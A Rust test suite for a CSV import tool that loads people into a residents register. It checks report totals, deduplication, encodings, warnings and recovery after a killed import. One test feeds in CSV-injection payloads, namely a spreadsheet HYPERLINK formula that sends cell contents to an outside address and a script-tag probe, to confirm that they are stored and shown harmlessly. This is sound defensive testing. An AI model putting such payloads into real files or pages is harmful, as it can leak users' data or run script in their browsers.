//! What `import` reports, and what it leaves on the register.

use crate::support::{Place, Running, sample};
use serde_json::Value;
use std::collections::BTreeSet;

#[track_caller]
fn number(report: &Value, name: &str) -> u64 {
    report[name].as_u64().unwrap_or_else(|| panic!("{name} in {report}"))
}

#[test]
fn the_report_has_the_promised_fields_and_adds_up() {
    let report = Place::new().import(sample("14-bad-and-awkward-numbers.csv")).with(0).json();
    let names: Vec<&String> = report.as_object().unwrap().keys().collect();
    let mut promised =
        ["batch_id", "rows", "loaded", "already_known", "rejected", "rejections", "warnings", "seconds"];
    promised.sort_unstable();
    assert_eq!(names, promised);
    assert_eq!(number(&report, "rows"), 24);
    assert_eq!(
        number(&report, "rows"),
        number(&report, "loaded") + number(&report, "already_known") + number(&report, "rejected")
    );
    assert_eq!(report["rejections"].as_array().unwrap().len() as u64, number(&report, "rejected"));
    let lines: Vec<u64> =
        report["rejections"].as_array().unwrap().iter().map(|one| number(one, "line")).collect();
    assert!(lines.is_sorted(), "{lines:?}");
    for warning in report["warnings"].as_array().unwrap() {
        let mut names: Vec<&String> = warning.as_object().unwrap().keys().collect();
        names.sort();
        assert_eq!(names, ["code", "line", "reason"]);
    }
    assert!(report["seconds"].as_f64().unwrap() > 0.0);
    assert_eq!(report["batch_id"].as_str().unwrap().len(), 36);
}

#[test]
fn the_same_file_again_changes_nothing() {
    let place = Place::new();
    let file = sample("01-reference-form.csv");
    let first = place.import(&file).with(0).json();
    let before = place.records();
    let second = place.import(&file).with(0).json();
    assert_eq!((number(&first, "loaded"), number(&first, "already_known")), (4, 0));
    assert_eq!((number(&second, "loaded"), number(&second, "already_known")), (0, 4));
    assert_ne!(first["batch_id"], second["batch_id"], "each import is an upload of its own");
    assert_eq!(second["warnings"], Value::Array(Vec::new()));
    assert_eq!(place.records(), before);
}

#[test]
fn the_same_people_in_any_encoding_are_the_same_people() {
    let place = Place::new();
    for name in
        ["02-crlf-no-final-newline.csv", "03-utf8-bom.csv", "04-utf16le-bom.csv", "06-utf16be-bom.csv"]
    {
        place.import(sample(name)).with(0);
    }
    let names: Vec<Value> = place.residents().iter().map(|one| one["first_name"].clone()).collect();
    assert_eq!(names, ["Ada", "Grace", "Tomasz", "José"]);
}

#[test]
fn the_same_person_twice_in_a_file_is_one_resident() {
    let place = Place::new();
    let report = place
        .import("firstName,lastName,number\nAda,Example,+447700900101\n ADA ,example,07700 900101\n")
        .with(0)
        .json();
    assert_eq!((number(&report, "loaded"), number(&report, "already_known")), (1, 1));
    assert_eq!(place.residents().len(), 1);
}

#[test]
fn whoever_is_known_is_not_changed_but_the_clerk_is_told() {
    let place = Place::new();
    let header = "reference,firstName,lastName,number\n";
    place.import(format!("{header}H-1,Ada,Example,+447700900101\n")).with(0);
    let again = place.import(format!("{header}H-1,Ada,Married,+447700900102\n")).with(0).json();
    assert_eq!(number(&again, "already_known"), 1);
    assert_eq!(again["warnings"][0]["code"], "known_differs");
    assert_eq!(again["warnings"][0]["line"], 2);
    let residents = place.residents();
    assert_eq!(
        (&residents[0]["last_name"], &residents[0]["number"]),
        (&"Example".into(), &"+447700900101".into())
    );
}

#[test]
fn two_names_on_one_number_are_two_residents_and_a_warning() {
    let place = Place::new();
    let report = place
        .import("firstName,lastName,number\nAda,Example,+447700900101\nBob,Example,+447700900101\n")
        .with(0)
        .json();
    assert_eq!(number(&report, "loaded"), 2);
    let codes: Vec<&Value> = report["warnings"].as_array().unwrap().iter().map(|one| &one["code"]).collect();
    assert!(codes.contains(&&Value::from("shared_number")), "{report}");
    assert_eq!(place.residents().len(), 2);
}

#[test]
fn formulas_and_markup_are_stored_as_text_and_do_no_harm_where_they_are_shown() {
    let place = Place::new();
    place.import(sample("12-csv-injection.csv")).with(0);
    let names: Vec<String> =
        place.residents().iter().map(|one| one["first_name"].as_str().unwrap().to_owned()).collect();
    assert!(names.contains(&"=HYPERLINK(\"http://example.org/?x=\"&A1,\"click\")".to_owned()), "{names:?}");
    assert!(names.contains(&"<script>alert(1)</script>".to_owned()), "{names:?}");
    assert!(names.contains(&"<speak><break time=\"10s\"/></speak>".to_owned()), "{names:?}");
    let table = place.run(&["residents"]).with(0).out;
    assert!(table.contains("  '=HYPERLINK("), "{table}");
    assert!(!table.contains("  =HYPERLINK("), "{table}");
}

#[test]
fn columns_that_nobody_reads_are_told() {
    let report = Place::new()
        .import("firstName,lastName,shoe size,number\nAda,Example,5,+447700900101\n")
        .with(0)
        .json();
    assert_eq!(report["warnings"][0]["code"], "column_not_read");
    assert_eq!(report["warnings"][0]["line"], 1);
}

#[test]
fn a_million_warnings_would_fit_because_they_are_told_as_they_come() {
    // 2 500 of them: more than any page that is read at once.
    let mut csv = "firstName,lastName,number\n".to_owned();
    for index in 0..2500 {
        csv.push_str(&format!("Ada,Example {index},7700900{:03}\n", index % 1000));
    }
    let report = Place::new().import(csv).with(0).json();
    let lines: Vec<u64> = report["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|one| one["code"] == "number_repaired")
        .map(|one| number(one, "line"))
        .collect();
    assert_eq!(lines, (2..=2501).collect::<Vec<u64>>());
}

#[test]
fn two_imports_at_once_both_finish() {
    let place = Place::new();
    let list = |from: u32| {
        let mut csv = "firstName,lastName,number\n".to_owned();
        for index in 0..3000 {
            csv.push_str(&format!("Ada,Example {},+447700900{:03}\n", from + index, index % 1000));
        }
        csv
    };
    place.file("one.csv", list(0));
    place.file("two.csv", list(10_000));
    let children: Vec<_> = ["one.csv", "two.csv"]
        .map(|file| {
            let mut command = place.program(&["import", "--json", file]);
            command.stdout(std::process::Stdio::piped()).spawn().unwrap()
        })
        .into();
    for child in children {
        let output = child.wait_with_output().unwrap();
        assert!(output.status.success(), "{output:?}");
        let report: Value = serde_json::from_slice(&output.stdout).unwrap();
        assert_eq!(number(&report, "loaded"), 3000);
    }
    assert_eq!(place.residents().len(), 6000);
}

#[test]
fn an_import_that_is_killed_can_be_repeated() {
    const ROWS: u64 = 40_000;
    let place = Place::new();
    let mut csv = "firstName,lastName,number\n".to_owned();
    for index in 0..ROWS {
        csv.push_str(&format!("Ada,Example {index},+447700900{:03}\n", index % 1000));
    }
    place.file("list.csv", csv);
    let mut first = Running(place.program(&["import", "list.csv"]).spawn().unwrap());
    // Some of it is on the register, hardly all.
    while place.run(&["ledger", "--json"]).status != Some(0)
        || number(&place.run(&["ledger", "--json"]).with(0).json(), "total") == 0
    {
        std::thread::yield_now();
    }
    first.kill();
    let report = place.run(&["import", "--json", "list.csv"]).with(0).json();
    assert_eq!(number(&report, "rows"), ROWS);
    assert_eq!(number(&report, "loaded") + number(&report, "already_known"), ROWS, "{report}");
    assert!(number(&report, "already_known") > 0, "{report}");
    let ids: BTreeSet<String> = place.residents().iter().map(|one| one["id"].to_string()).collect();
    assert_eq!(ids.len() as u64, ROWS);
    assert_eq!(number(&place.run(&["ledger", "--json"]).with(0).json(), "total"), ROWS);
}
